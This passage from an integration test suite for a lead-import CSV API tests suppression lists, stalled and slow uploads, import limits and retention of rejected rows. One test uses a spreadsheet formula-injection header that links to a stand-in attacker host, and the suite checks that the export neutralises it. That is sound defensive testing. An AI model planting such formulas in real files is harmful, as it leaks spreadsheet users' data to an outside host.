      status: 'inserting',
      heartbeat_at: new Date(Date.now() - 60_000),
    })
    const stale = await call(actors.tokens.admin, 'GET', `/api/leads/imports/${orphan}`)
    assert.containSubset(stale.body, { status: 'failed', rejected_csv: null })
    assert.include(stale.body.error, 'interrupted')
  }).timeout(30_000)

  test('suppressed rows are refused, naming the entry', async ({ assert }) => {
    const { rows } = await db.rawQuery(`SELECT to_regclass('suppressions') IS NOT NULL AS present`)
    if (!rows[0].present) {
      console.log(
        '  (no suppressions table in this database: the suppression step is not exercised)'
      )
      return
    }
    const tag = randomUUID().slice(0, 8)
    await db.table('suppressions').multiInsert([
      { kind: 'email', value: `stop@mail-${tag}.example` },
      { kind: 'domain', value: `blocked-${tag}.example` },
    ])
    // an internationalized domain, entered in its ASCII spelling
    const idn = await call(actors.tokens.admin, 'POST', '/api/suppressions', {
      value: domainToASCII(`bäckerei-${tag}.example`),
    })
    assert.equal(idn.status, 201, JSON.stringify(idn.body))
    const header = ['business_name', 'niche', 'region', 'website', 'email']
    const done = await upload(
      actors.tokens.admin,
      csv([
        header,
        [`Mailed ${tag}`, 'HVAC', 'Reno, NV', `mailed-${tag}.example`, `STOP@mail-${tag}.example`],
        [`Blocked site ${tag}`, 'HVAC', 'Reno, NV', `https://www.blocked-${tag}.example/x`, ''],
        [
          `Blocked mail ${tag}`,
          'HVAC',
          'Reno, NV',
          `other-${tag}.example`,
          `a@blocked-${tag}.example`,
        ],
        [`Fine ${tag}`, 'HVAC', 'Reno, NV', `fine-${tag}.example`, `a@fine-${tag}.example`],
        // a subdomain is covered, by its e-mail or its website
        [
          `Sub mail ${tag}`,
          'HVAC',
          'Reno, NV',
          `sub1-${tag}.example`,
          `a@eu.blocked-${tag}.example`,
        ],
        [`Sub site ${tag}`, 'HVAC', 'Reno, NV', `https://shop.eu.blocked-${tag}.example`, ''],
        // a name that only ends the same way is not
        [
          `Sibling ${tag}`,
          'HVAC',
          'Reno, NV',
          `notblocked-${tag}.example`,
          `a@xblocked-${tag}.example`,
        ],
        // the Unicode spelling of the entry
        [`Bakery ${tag}`, 'HVAC', 'Reno, NV', `https://www.BÄCKEREI-${tag}.example/brot`, ''],
      ])
    )
    assert.equal(done.status, 201, JSON.stringify(done.body))
    assert.containSubset(done.body, { imported: 2, rejected_by_reason: { suppressed: 6 } })
    const { records } = await rejectedCsv(actors.tokens.admin!, done.body.id)
    assert.deepEqual(
      records.slice(1).map((record) => [record[0], record[1], record[2]]),
      [
        [
          '2',
          'suppressed',
          `the e-mail address stop@mail-${tag}.example is on the do-not-contact list`,
        ],
        ['3', 'suppressed', `the domain blocked-${tag}.example is on the do-not-contact list`],
        ['4', 'suppressed', `the domain blocked-${tag}.example is on the do-not-contact list`],
        ['6', 'suppressed', `the domain blocked-${tag}.example is on the do-not-contact list`],
        ['7', 'suppressed', `the domain blocked-${tag}.example is on the do-not-contact list`],
        ['9', 'suppressed', `the domain bäckerei-${tag}.example is on the do-not-contact list`],
      ]
    )
    const imported = await db.from('leads').whereILike('business_name', `% ${tag}`)
    assert.sameMembers(
      imported.map((lead) => lead.business_name),
      [`Fine ${tag}`, `Sibling ${tag}`]
    )
  })

  /* A raw upload that announces a body it never finishes: the header row, then nothing. */
  function stalledUpload(token: string, id: string) {
    const socket = net.connect(Number(process.env.PORT), process.env.HOST!)
    let answer = ''
    socket.on('data', (chunk) => (answer += chunk.toString()))
    socket.on('error', () => {})
    const closed = new Promise<void>((resolve) => socket.on('close', () => resolve()))
    const header = 'business_name,niche,region,website\r\n'
    socket.write(
      `POST /api/leads/import?id=${id} HTTP/1.1\r\nHost: ${process.env.HOST}\r\n` +
        `Authorization: Bearer ${token}\r\nContent-Type: text/csv\r\n` +
        `Content-Length: 100000\r\n\r\n${header}`
    )
    return { socket, closed, answer: () => answer }
  }

  async function recordOf(id: string, status?: string) {
    for (const deadline = Date.now() + 15_000; Date.now() < deadline;) {
      const record = await db.from('lead_imports').where('id', id).first()
      if (record && (!status || record.status === status)) return record
      await new Promise((resolve) => setTimeout(resolve, 100))
    }
    return null
  }

  test('a stalled upload is given up: 408, the slot freed, nothing imported', async ({
    assert,
    cleanup,
  }) => {
    const previous = process.env.LEAD_IMPORT_IDLE_SECONDS
    process.env.LEAD_IMPORT_IDLE_SECONDS = '1'
    cleanup(() => {
      if (previous === undefined) delete process.env.LEAD_IMPORT_IDLE_SECONDS
      else process.env.LEAD_IMPORT_IDLE_SECONDS = previous
    })
    const before = await footprint()
    const id = randomUUID()
    const upload408 = stalledUpload(actors.tokens.admin!, id)
    await upload408.closed
    assert.match(upload408.answer(), /^HTTP\/1\.1 408/)
    assert.include(upload408.answer(), 'E_UPLOAD_STALLED')
    const record = await recordOf(id, 'failed')
    assert.match(record?.error ?? '', /The upload stalled/)
    assert.deepEqual(await footprint(), before)
    // the same person imports again at once
    const tag = randomUUID().slice(0, 8)
    const next = await upload(
      actors.tokens.admin,
      `business_name,niche,region,website\r\nAfter Stall ${tag},HVAC,Reno,after-${tag}.example\r\n`
    )
    assert.equal(next.status, 201, JSON.stringify(next.body))
  }).timeout(30_000)

  test('an upload that keeps sending is not held to the server body deadline: a slow file past it imports whole', async ({
    assert,
    cleanup,
  }) => {
    bodyTimeout('1', cleanup)
    const tag = randomUUID().slice(0, 8)
    const rows = [0, 1, 2, 3, 4].map(
      (i) => `Slow ${i} ${tag},HVAC,Reno,slow-${i}-${tag}.example\r\n`
    )
    const slow = trickle(
      `POST /api/leads/import?name=slow.csv HTTP/1.1\r\nHost: ${process.env.HOST}\r\n` +
        `Authorization: Bearer ${actors.tokens.admin}\r\nContent-Type: text/csv\r\n`,
      ['business_name,niche,region,website\r\n', ...rows],
      500
    )
    cleanup(slow.stop)
    await slow.closed
    assert.match(slow.answer(), /^HTTP\/1\.1 201/, slow.answer().slice(0, 300))
    const imported = await db.from('leads').whereILike('business_name', `Slow % ${tag}`)
    assert.lengthOf(imported, 5)

    // and the deadline still holds for the JSON routes of the same plugin
    const json = JSON.stringify(newLeadBody({ source: `slow-${tag}` }))
    const held = trickle(
      `POST /api/leads HTTP/1.1\r\nHost: ${process.env.HOST}\r\n` +
        `Authorization: Bearer ${actors.tokens.admin}\r\nContent-Type: application/json\r\n`,
      json.match(/.{1,40}/gs)!,
      400
    )
    cleanup(held.stop)
    await held.closed
    assert.match(held.answer(), /^HTTP\/1\.1 408/)

    // nor does a caller who may not import get an unlimited upload: refused, then cut at the deadline
    for (const token of [null, actors.tokens.viewer]) {
      const refused = trickle(
        `POST /api/leads/import HTTP/1.1\r\nHost: ${process.env.HOST}\r\n` +
          (token ? `Authorization: Bearer ${token}\r\n` : '') +
          'Content-Type: text/csv\r\n',
        ['business_name\r\n', ...Array.from({ length: 30 }, (_, i) => `Slow ${i}\r\n`)],
        200,
        true
      )
      cleanup(refused.stop)
      const started = Date.now()
      await refused.closed
      assert.match(refused.answer(), /^HTTP\/1\.1 40[13]/)
      assert.isBelow(
        Date.now() - started,
        5_000,
        'closed at the deadline, not after the whole body'
      )
    }
  }).timeout(30_000)

  test('one import at a time per person: a second is refused with 429, others may import', async ({
    assert,
  }) => {
    const id = randomUUID()
    const held = stalledUpload(actors.tokens.admin!, id)
    try {
      assert.isOk(await recordOf(id), 'the first import started')
      const tag = randomUUID().slice(0, 8)
      const file = (who: string) =>
        `business_name,niche,region,website\r\n${who} ${tag},HVAC,Reno,${who}-${tag}.example\r\n`
      const second = await upload(actors.tokens.admin, file('second'))
      assert.equal(second.status, 429)
      assert.equal(second.body.errors[0].code, 'E_TOO_MANY_IMPORTS')
      assert.include(second.body.errors[0].message, 'You have an import running')
      const other = await upload(actors.tokens.operator, file('operator'))
      assert.equal(other.status, 201, JSON.stringify(other.body))
    } finally {
      held.socket.destroy()
    }
    await recordOf(id, 'failed')
    const again = await upload(
      actors.tokens.admin,
      `business_name,niche,region,website\r\nAgain ${id.slice(0, 8)},HVAC,Reno,again-${id.slice(0, 8)}.example\r\n`
    )
    assert.equal(again.status, 201, JSON.stringify(again.body))
  }).timeout(30_000)

  test('rejected rows are kept for their days after the import, then removed; the counts stay', async ({
    assert,
  }) => {
    const tag = randomUUID().slice(0, 8)
    const file = (who: string) =>
      `business_name,niche,region,website\r\n${who} ${tag},HVAC,Reno,${who}-${tag}.example\r\nBad ${who} ${tag},HVAC,Reno,not a site\r\n`
    const old = await upload(actors.tokens.closer, file('old'))
    const recent = await upload(actors.tokens.closer, file('recent'))
    assert.equal(old.status, 201, JSON.stringify(old.body))
    assert.equal(recent.status, 201)
    // the first finished 31 days ago
    await db
      .from('lead_imports')
      .where('id', old.body.id)
      .update({ finished_at: db.knexRawQuery(`now() - interval '31 days'`) })
    const kept = async (id: string) =>
      Number((await db.from('lead_import_rejections').where('import_id', id).count('* as n'))[0].n)

    // 0 days: kept for good
    assert.equal(await removeExpiredRejections(0), 0)
    assert.equal(await kept(old.body.id), 1)
    assert.equal(await removeExpiredRejections(32), 0)
    // in pages of one row: every page is its own short statement
    assert.isAtLeast(await removeExpiredRejections(30, 1), 1)
    assert.equal(await kept(old.body.id), 0)
    assert.equal(await kept(recent.body.id), 1)

    const gone = await rejectedCsv(actors.tokens.closer!, old.body.id)
    assert.equal(gone.response.status, 410)
    const error = JSON.parse(gone.text).errors[0]
    assert.equal(error.code, 'E_REJECTED_ROWS_REMOVED')
    assert.match(error.message, /were removed on \d{4}-\d{2}-\d{2}, 30 days after it finished/)
    const record = await call(actors.tokens.closer, 'GET', `/api/leads/imports/${old.body.id}`)
    assert.containSubset(record.body, { imported: 1, rejected: 1, rejected_csv: null })
    assert.isString(record.body.rejected_rows_removed_at)
    assert.deepEqual(check('GET', '/api/leads/imports/{id}', 200, record.body), [])

    // a sweep that stopped after the stamp: the next one deletes what is left
    await db.table('lead_import_rejections').insert({
      import_id: old.body.id,
      row_no: 99,
      reason: 'invalid',
      message: 'left behind',
      cells: ['x'],
    })
    assert.equal(await removeExpiredRejections(30), 0)
    assert.equal(await kept(old.body.id), 0)

    // the recent import's rows are still there, and a second sweep changes nothing
    assert.equal(await removeExpiredRejections(30), 0)
    const still = await rejectedCsv(actors.tokens.closer!, recent.body.id)
    assert.equal(still.response.status, 200)
    assert.lengthOf(still.records, 2)
  })

  test('past imports: one’s own, newest first; admins see everyone’s; viewers none', async ({
    assert,
  }) => {
    const tag = randomUUID().slice(0, 8)
    const file = (who: string) =>
      `business_name,niche,region,website\r\n${who} ${tag},HVAC,Reno,${who}-${tag}.example\r\nBad ${tag},HVAC,Reno,not a site\r\n`
    const mine = await upload(actors.tokens.closer, file('closer'), {
      fileName: `closer-${tag}.csv`,
    })
    assert.equal(mine.status, 201, JSON.stringify(mine.body))
    const theirs = await upload(actors.tokens.operator, file('operator'), {
      fileName: `operator-${tag}.csv`,
    })
    assert.equal(theirs.status, 201)

    const closerList = await call(actors.tokens.closer, 'GET', '/api/leads/imports?_end=100')
    assert.equal(closerList.status, 200)
    assert.isAtLeast(Number(closerList.headers.get('x-total-count')), 1)
    assert.equal(closerList.body[0].id, mine.body.id, 'newest first')
    assert.containSubset(closerList.body[0], {
      file_name: `closer-${tag}.csv`,
      status: 'done',
      imported: 1,
      rejected: 1,
      rejected_csv: `/api/leads/imports/${mine.body.id}/rejected.csv`,
    })
    assert.isTrue(
      closerList.body.every((record: any) => record.created_by.id === actors.users.closer.id),
      'only the closer’s own'
    )

    const adminList = await call(actors.tokens.admin, 'GET', `/api/leads/imports?q=${tag}`)
    assert.sameMembers(
      adminList.body.map((record: any) => record.id),
      [mine.body.id, theirs.body.id]
    )
    const done = await call(actors.tokens.admin, 'GET', `/api/leads/imports?q=${tag}&status=done`)
    assert.lengthOf(done.body, 2)

    assert.equal((await call(actors.tokens.viewer, 'GET', '/api/leads/imports')).status, 403)
    assert.equal((await call(null, 'GET', '/api/leads/imports')).status, 401)
    const bad = await call(actors.tokens.admin, 'GET', '/api/leads/imports?status=sideways')
    assert.equal(bad.status, 422)
    assert.isString(bad.body.errors[0].code)
  })

  test('PostgreSQL drops the import’s connection mid-file: the import fails, nothing is written, the server stays up', async ({
    assert,
  }) => {
    const before = await footprint()
    const tag = randomUUID().slice(0, 8)
    const id = randomUUID()
    const upload = stalledUpload(actors.tokens.admin!, id)
    let row = 0
    const trickle = setInterval(() => {
      row++
      upload.socket.write(`Dropped ${row} ${tag},HVAC,Reno,dropped-${row}-${tag}.example\r\n`)
    }, 50)
    try {
      let pid: number | null = null
      for (const deadline = Date.now() + 10_000; Date.now() < deadline && pid === null;) {
        const { rows } = await db.rawQuery(
          `SELECT pid FROM pg_stat_activity
           WHERE datname = current_database() AND query LIKE 'COPY lead_import_raw%'`
        )
        pid = rows[0]?.pid ?? null
        if (pid === null) await new Promise((resolve) => setTimeout(resolve, 50))
      }
      assert.isNotNull(pid, 'the import’s COPY was seen running')
      await db.rawQuery('SELECT pg_terminate_backend(?)', [pid])
      const record = await recordOf(id, 'failed')
      assert.equal(record?.status, 'failed')
    } finally {
      clearInterval(trickle)
      upload.socket.destroy()
    }
    // still up, and nothing of it written
    assert.equal((await call(actors.tokens.admin, 'GET', '/api/leads?_end=1')).status, 200)
    assert.deepEqual(await footprint(), before)
  }).timeout(30_000)

  test('a header that a spreadsheet would run as a formula is guarded in the rejected-rows file', async ({
    assert,
  }) => {
    const tag = randomUUID().slice(0, 8)
    const formula = '=HYPERLINK("http://evil.example/?"&A1;"x")'
    const file = csv([
      ['business_name', 'niche', 'region', 'website', formula],
      [`Formula ${tag}`, 'HVAC', 'Reno', 'not a website', 'x'],
    ])
    const done = await upload(actors.tokens.closer, file, {
      mapping: {
        business_name: 'business_name',
        niche: 'niche',
        region: 'region',
        website: 'website',
        [formula]: null,
      },
    })
    assert.equal(done.status, 201, JSON.stringify(done.body))
    assert.equal(done.body.rejected, 1)
    const { text, records } = await rejectedCsv(actors.tokens.admin!, done.body.id)
    assert.equal(records[0][7], `'${formula}`)
    assert.notInclude(text.split('\n')[0], ',"=HYPERLINK')
    // the guarded name reads back as the file's own
    const preview = await fetch(`${BASE()}/api/leads/import/preview`, {
      method: 'POST',
      headers: { 'authorization': `Bearer ${actors.tokens.admin}`, 'content-type': 'text/csv' },
      body: text,
    })
    assert.include(((await preview.json()) as { headers: string[] }).headers, formula)
  })

  test('a website is stored as the API stores it: its host in lower case, every letter', async ({
    assert,
  }) => {
    const tag = randomUUID().slice(0, 8)
    const website = `https://WWW.MÜNCHEN-${tag}.DE/Über-Uns`
    const done = await upload(
      actors.tokens.admin,
      csv([
        ['business_name', 'niche', 'region', 'website'],
        [`Umlaut ${tag}`, 'HVAC', 'München', website],
      ])
    )
    assert.equal(done.status, 201, JSON.stringify(done.body))
    assert.equal(done.body.imported, 1)
    const stored = await db.from('leads').where('business_name', `Umlaut ${tag}`).first()
    assert.equal(stored.website, `https://www.münchen-${tag}.de/Über-Uns`)
    // and the API finds it a duplicate of the same address written otherwise
    const again = await call(actors.tokens.admin, 'POST', '/api/leads', {
      business_name: `Again ${tag}`,
      niche: 'HVAC',
      region: 'München',
      website: `www.München-${tag}.de/Über-Uns`,
    })
    assert.equal(again.status, 409, JSON.stringify(again.body))
  })
})
